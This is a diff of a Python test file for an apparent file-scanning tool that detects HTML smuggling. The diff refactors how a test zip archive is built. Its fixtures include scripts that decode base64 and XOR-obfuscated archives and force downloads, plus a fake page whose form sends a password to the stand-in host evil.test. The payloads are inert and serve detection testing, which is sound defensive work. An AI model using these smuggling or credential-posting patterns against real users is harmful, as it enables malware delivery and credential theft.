@@ -2,28 +2,21 @@
 
 import base64
 import html
-import io
 import random
 import tracemalloc
 import zipfile
 from html.entities import html5
 
 import pytest
+from tests.files.archive_formats import zipped
 
 from gatepost.files.documents import dispatch
 from gatepost.files.documents.page_scripts import replace_references
 from gatepost.files.values import Contents, File, UnpackBudget
 
-
-def archive() -> bytes:
-    out = io.BytesIO()
-    with zipfile.ZipFile(out, "w") as packed:
-        packed.writestr(zipfile.ZipInfo("invoice.js"), "x()" * 100)
-    return out.getvalue()
-
-
-ZIP = base64.b64encode(archive()).decode()
-SECRET = base64.b64encode(bytes(byte ^ place * 7 & 0xFF for place, byte in enumerate(archive()))).decode()
+ARCHIVE = zipped("invoice.js", b"x()" * 100, zipfile.ZIP_STORED)
+ZIP = base64.b64encode(ARCHIVE).decode()
+SECRET = base64.b64encode(bytes(byte ^ place * 7 & 0xFF for place, byte in enumerate(ARCHIVE))).decode()
 PAGE = base64.b64encode(
     b"<html><body><form action='https://evil.test'><input type=password></form>" + b" " * 99
 ).decode()
@@ -50,8 +43,8 @@ def seen(text: str, kind: str = "html") -> set[str]:
         (f"<script>var u = atob('{ZIP}'); {SAVE}</script>", {"page-script", "smuggling"}),
         (f"<script>var u = x(atob('{SECRET}')); {SAVE}</script>", {"page-script", "smuggling"}),
         (f"<script>var u = atob('{ZIP[:40]}\u00a0\u3000{ZIP[40:]}'); {SAVE}</script>", {"page-script", "smuggling"}),
-        (f"<script>var u = f([{','.join(map(str, archive()))}]); {SAVE}</script>", {"page-script", "smuggling"}),
-        (f"<script>var u = f('{archive().hex()}'); {SAVE}</script>", {"page-script", "smuggling"}),
+        (f"<script>var u = f([{','.join(map(str, ARCHIVE))}]); {SAVE}</script>", {"page-script", "smuggling"}),
+        (f"<script>var u = f('{ARCHIVE.hex()}'); {SAVE}</script>", {"page-script", "smuggling"}),
         (
             f"<a href='data:application/zip;base64,{ZIP}' id=a></a><script>a.click(); a.download = 'a.zip'</script>",
             {"page-script", "smuggling", "page-data-link"},
@@ -86,7 +79,7 @@ def test_pages(text: str, expected: set[str]) -> None:
 
 
 def test_what_a_script_holds_is_a_file() -> None:
-    assert archive() in [member.content for member in contents(f"<script>atob('{ZIP}'); {SAVE}</script>").members]
+    assert ARCHIVE in [member.content for member in contents(f"<script>atob('{ZIP}'); {SAVE}</script>").members]
 
 
 @pytest.mark.parametrize(
@@ -181,4 +174,4 @@ def test_a_script_reads_the_text_of_a_long_one() -> None:
         f"for(var i=0;i<r.length;i++)u[i]=r.charCodeAt(i)^i*7&255;var a=document.createElement('a');{SAVE}"
     )
     found = contents(f"<html><script>{code}</script><script>{reading}</script>")
-    assert archive() in [member.content for member in found.members]
+    assert ARCHIVE in [member.content for member in found.members]
